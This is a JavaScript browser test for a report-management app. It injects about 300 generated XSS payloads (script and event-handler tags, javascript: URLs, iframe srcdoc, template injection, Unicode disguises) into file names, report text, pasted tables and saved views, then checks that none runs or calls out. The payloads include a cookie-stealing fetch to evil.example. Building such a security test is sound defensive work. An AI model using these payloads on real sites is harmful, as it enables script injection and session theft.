// Hundreds of hostile strings in file names, texts, pasted tables, settings and remarks: nothing of them becomes an element,
// no script runs, no request leaves, no box opens.
import assert from 'node:assert/strict';
import { mkdirSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { after, before, test } from 'node:test';
import { go, id, launch, Office, pause, settled } from './office.mjs';

const calls = ['fired(1)', 'globalThis.fired(2)', "top['fired'](3)", 'fetch(`//evil.example/${document.cookie}`)', 'alert(1)'];
const shapes = [
  (js) => `<script data-hostile>${js}</script>`,
  (js) => `<img data-hostile src=x onerror="${js}">`,
  (js) => `<img data-hostile src=//evil.example/i.png onload='${js}'>`,
  (js) => `<svg data-hostile onload="${js}"><animate onbegin="${js}" attributeName=x dur=1s></svg>`,
  (js) => `<svg><script data-hostile>${js}</script></svg>`,
  (js) => `"><iframe data-hostile srcdoc="&lt;script&gt;${js}&lt;/script&gt;"></iframe>`,
  (js) => `'><iframe data-hostile src="javascript:${js}"></iframe>`,
  (js) => `<a data-hostile href="javascript:${js}">12 trạm</a>`,
  (js) => `</title></textarea></style><body data-hostile onload=${js}>`,
  (js) => `<details data-hostile open ontoggle="${js}">`,
  (js) => `<video data-hostile><source onerror="${js}"></video>`,
  (js) => `<input data-hostile autofocus onfocus="${js}">`,
  (js) => `<math><mtext><table><mglyph><style><!--</style><img data-hostile src=x onerror="${js}">`,
  (js) => `<link data-hostile rel=stylesheet href=//evil.example/${encodeURIComponent(js)}.css>`,
  (js) => `<meta data-hostile http-equiv=refresh content="0;url=//evil.example/?${js}">`,
  (js) => `<base data-hostile href=//evil.example/>${js}`,
  (js) => `<object data-hostile data="data:text/html,<script>${js}</script>"></object>`,
  (js) => `{{constructor.constructor('${js}')()}}`,
  (js) => `\${${js}}`,
  (js) => `{@html '<img data-hostile src=x onerror=${js}>'}`,
];
const disguises = [(s) => s, (s) => s.replaceAll('<', '\u003c\u200b'), (s) => `\u202e${s}\u202c`];
const hostile = calls.flatMap((js) => shapes.flatMap((shape) => disguises.map((disguise) => disguise(shape(js)))));

let browser, office;

before(async () => {
  [browser, office] = await Promise.all([launch(), Office.open({ samples: false })]);
});

after(async () => {
  await browser?.close();
  office?.close();
});

/** A page with a sentinel that tells of every call. */
async function watched(hash) {
  const page = await office.page(browser, { hash });
  page.fired = [];
  await page.exposeFunction('fired', (what) => page.fired.push(what));
  return page;
}

/** What became an element, ran, opened or left. */
async function harm(page) {
  const elements = await page.evaluate(() => [...document.querySelectorAll('[data-hostile]')].map((one) => `<${one.localName} data-hostile>`));
  const outside = page.requests.filter((url) => !url.startsWith(office.address) && !url.startsWith('blob:'));
  const policy = page.said.filter((one) => /Content Security Policy|dialog:|error:/.test(one));
  return [...elements, ...outside, ...page.fired.map((what) => `fired ${what}`), ...policy];
}

test('three hundred strings, everywhere a document or a person can put them', async () => {
  assert.ok(hostile.length >= 300, String(hostile.length));
  await office.call('set_desk', { person: hostile[0], area: 'B-20', year: 2024 });
  await office.call('set_desk', { person: `${hostile[3]} "Mai"`, area: null, year: null });

  // In the name of a file no system takes a slash or a colon.
  const folder = join(office.folder, 'bao cao');
  mkdirSync(folder);
  const perFile = 15;
  const files = Array.from({ length: Math.ceil(hostile.length / perFile) }, (_, i) => {
    const some = hostile.slice(i * perFile, (i + 1) * perFile);
    const name = `${some[0].replaceAll(/[/\\:]/g, '∕').slice(0, 60)} ${i}.txt`;
    const lines = some.map((one, n) => `${n + 1}. Số lượng ${one} là ${1000 + i * 100 + n} thuê bao; ${one} đạt ${n + 1},5%.`);
    const text = `UBND TỈNH LẠNG SƠN ${some[1]}\nSỞ THÔNG TIN VÀ TRUYỀN THÔNG ${some[2]}\nSố: 12/BC-STTTT ${some[3]}\n\nBÁO CÁO ${some[4]}\nTổng kết công tác năm 2024\n\n${lines.join('\n')}\nDoanh thu dịch vụ viễn thông năm 2024 đạt ${1100 + i} tỷ đồng ${some[0]}.\n`;
    writeFileSync(join(folder, name), text);
    return join(folder, name);
  });
  await office.drop(files);
  const reports = await office.call('reports');
  assert.equal(reports.length, files.length, 'every hostile file is a report like any other');

  // The same as markup that a program put on the clipboard, and in what people write down.
  const table = `<table><tr>${hostile.slice(0, 40).map((one) => `<td>${one} 12 trạm</td>`).join('')}</tr></table>`;
  await office.call('paste_report', { pasted: { text: 'x', markedUp: table, from: hostile[4], on: '2024-12-30' } });
  const view = await office.call('report', { id: reports[0].id });
  const ids = view.facts.map((fact) => fact.id);
  for (const [i, fact] of ids.slice(0, 12).entries()) {
    await office.call('note_fact', { fact, note: hostile[i] });
    await office.call('flag_fact', { fact, on: true, why: hostile[i + 20] });
  }
  await office.call('reject_facts', { ids: ids.slice(12, 14), why: hostile[40] });
  await office.call('correct_report', { id: reports[0].id, edit: { title: hostile[5], number: hostile[6], area: 'B-20', organization: hostile[7], period: { kind: 'year', year: 2024 }, published: '2024-12-30' } });
  await office.call('close_year', { year: 2023, why: hostile[8] });
  const ask = { indicators: ['tel.revenue'], areas: [], from: 2022, to: 2024, today: false, stretch: null };
  for (const one of hostile.slice(0, 20)) await office.call('save_view', { view: { name: one.slice(0, 80), ask } });

  const page = await watched('overview');
  const found = [];
  const places = [
    'overview', 'import?tab=stored', 'import?tab=now', ...reports.slice(0, 6).map((report) => `review?report=${report.id}`), 'entry', 'compare?indicators=tel.revenue&years=2022-2024', 'summary', `search?q=${encodeURIComponent('thuê bao')}`, `search?q=${encodeURIComponent(hostile[1])}`, 'conflicts', 'history', 'settings', `handbook?at=${encodeURIComponent(hostile[1])}`, `review?report=${encodeURIComponent(hostile[2])}&fact=${encodeURIComponent(hostile[3])}`, `${encodeURIComponent(hostile[1])}?x=1`,
  ];
  let seen = 0;
  for (const place of places) {
    await go(page, place);
    if (await page.evaluate(() => document.body.innerText.includes('data-hostile'))) seen += 1;
    found.push(...(await harm(page)).map((one) => `${place.slice(0, 40)}: ${one}`));
  }
  assert.ok(seen > 8, `the strings are read as words in ${seen} places only`);
  // What stands in layers over a view: the source of a number, kept comparisons, the chooser of reports.
  await go(page, 'compare?indicators=tel.revenue&years=2022-2024');
  await page.click(id('compare-saved'));
  await settled(page);
  found.push(...(await harm(page)));
  await page.keyboard.press('Escape');
  await page.click(`${id('compare-cell')}[data-year="2024"]`);
  await pause(300);
  found.push(...(await harm(page)));
  await go(page, `review?report=${reports[0].id}`);
  await page.click(id('report-chooser'));
  await settled(page);
  found.push(...(await harm(page)));
  assert.deepEqual(found, []);
});

test('the sentinel sees an element, a call and a request', async () => {
  const page = await watched('overview');
  await page.evaluate((markup) => {
    document.body.append(new DOMParser().parseFromString(markup, 'text/html').body.firstChild);
    globalThis.fired('by hand');
    void fetch('https://evil.example/').catch(() => undefined);
  }, hostile[1 * disguises.length]);
  await pause(200);
  const found = (await harm(page)).join('\n');
  assert.match(found, /data-hostile/);
  assert.match(found, /fired by hand/);
  assert.match(found, /evil\.example|Content Security Policy/);
});
